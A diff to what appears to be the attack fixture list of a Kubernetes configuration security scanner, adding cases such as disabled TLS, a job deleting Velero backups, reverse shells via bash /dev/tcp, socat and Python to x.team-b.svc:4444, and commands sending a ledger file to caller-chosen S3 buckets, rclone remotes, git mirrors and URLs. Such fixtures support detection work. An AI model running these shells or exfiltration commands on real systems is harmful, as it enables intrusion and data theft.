@@ -131,6 +131,14 @@ def sends(address: str, parameter: Mapping[str, object], kind: str = "WorkflowTe
         "arguments": {"parameters": [{"name": "target", **parameter}]}, "templates": [start, step]}),)  # fmt: skip
 
 
+def run(*command: str, **more: object) -> tuple[Given, ...]:
+    """Returns a workflow of one command whose caller states the parameter `target`."""
+    (sent,) = sends("x", {})
+    spec = dict(sent.props["spec"])  # type: ignore[call-overload]
+    send = {**spec["templates"][1], "container": {**_step(*command), **more}}
+    return (crd("argoproj.io/v1alpha1:WorkflowTemplate", {**spec, "templates": [spec["templates"][0], send]}),)
+
+
 def _step(*command: str) -> dict[str, object]:
     spec = workload("apps/v1:Deployment", {"command": list(command)}).props["spec"]
     assert isinstance(spec, dict)
@@ -241,4 +249,46 @@ ATTACKS = (
         "critical", "as before (Argo Workflows, 'Workflow variables', as known)"),
     Attack("whoever starts a task says where the ledger goes", ADDRESSED, task("$(params.target)"),
         "critical", "as before (Tekton, 'Tasks', params, as known)"),
+    Attack("the whole of the records is kept for a day", LOST, kept({"retention_period": "24h"}),
+        "critical", "what happened yesterday is gone (Loki, 'Log retention')"),
+    Attack("a job ends the nightly backups of the cluster", ("FJ-ESC-109",), (
+        every("0 3 * * *", "kubectl", "delete", "schedules", "nightly", "-n", "velero", name="tidy"),),
+        "critical", "no backup is made any more (Velero, 'Schedule API Type')"),
+    Attack("Odyssey takes and gives rows in plain text", PLAIN, text("odyssey", "payments", {
+        "odyssey.conf": 'listen {\n  host "*"\n  port 6432\n  tls "disable"\n}\n'}),
+        "critical", "passwords and rows cross the network in plain text (Odyssey, tls)"),
+    Attack("clients of a database may only come in plain text", PLAIN, text("ledger", "payments", {
+        "pg_hba.conf": "local all all peer\nhostnossl all all 10.0.0.0/8 scram-sha-256\n"}),
+        "critical", "hostnossl matches connections without TLS alone (PostgreSQL, 'The pg_hba.conf File')"),
+    Attack("files of a team come by NFS without a claim", PLAIN, (workload("apps/v1:StatefulSet", {
+        "volumeMounts": [{"name": "files", "mountPath": "/files"}]}, volumes=[
+            {"name": "files", "nfs": {"server": "10.20.0.9", "path": "/team-a"}}]),),
+        "critical", "a volume of a pod has no options of its mount (Kubernetes, 'Volumes', nfs)"),
+    Attack("bash gives another machine a shell", OPEN, (
+        workload("apps/v1:StatefulSet", {"command": ["bash", "-c", "bash -i >& /dev/tcp/x.team-b.svc/4444 0>&1"]}),),
+        "critical", "who listens there has a shell in the pod (GNU Bash, redirections)"),
+    Attack("socat gives another machine a shell", OPEN, (
+        workload("apps/v1:StatefulSet", {"command": ["socat", "TCP:x.team-b.svc:4444", "EXEC:bash,pty,stderr"]}),),
+        "critical", "who listens there has a shell in the pod (socat, EXEC)"),
+    Attack("a program of Python gives another machine a shell", OPEN, (
+        workload("apps/v1:StatefulSet", {"command": [
+            "python", "-c", "import os,socket as k;s=k.create_connection(('x.team-b.svc',4444));os.dup2(s.fileno(),0)\n"
+            "os.dup2(s.fileno(),1);os.execv('/bin/sh',['/bin/sh'])"]}),),
+        "critical", "who listens there has a shell in the pod (Python, os.dup2)"),
+    Attack("whoever starts a workflow names the bucket for the ledger", ADDRESSED, run(
+        "aws", "s3", "cp", "/data/ledger.csv", "s3://{{inputs.parameters.target}}/ledger.csv"),
+        "critical", "a bucket of anybody (AWS CLI, 's3 cp')"),
+    Attack("whoever starts a workflow names the remote for the ledger", ADDRESSED, run(
+        "rclone", "copy", "/data", "{{workflow.parameters.target}}"),
+        "critical", "a remote of anybody (rclone, 'Connection strings')"),
+    Attack("whoever starts a workflow names the repository for the code", ADDRESSED, run(
+        "git", "push", "--mirror", "{{inputs.parameters.target}}"),
+        "critical", "a repository of anybody (Git, 'git-push')"),
+    Attack("a variable has the address that whoever starts a workflow names", ADDRESSED, run(
+        "sh", "-c", 'curl -sSf -T /data/ledger.csv "$STORE"',
+        env=[{"name": "STORE", "value": "{{inputs.parameters.target}}"}]),
+        "critical", "as before (Argo Workflows, 'Parameters')"),
+    Attack("a call of Python posts to the address that whoever starts a workflow names", ADDRESSED, run(
+        "python", "-c", "import requests as r; r.post('{{inputs.parameters.target}}', data=open('/data/l.csv'))"),
+        "critical", "as before (Argo Workflows, 'Parameters')"),
 )  # fmt: skip
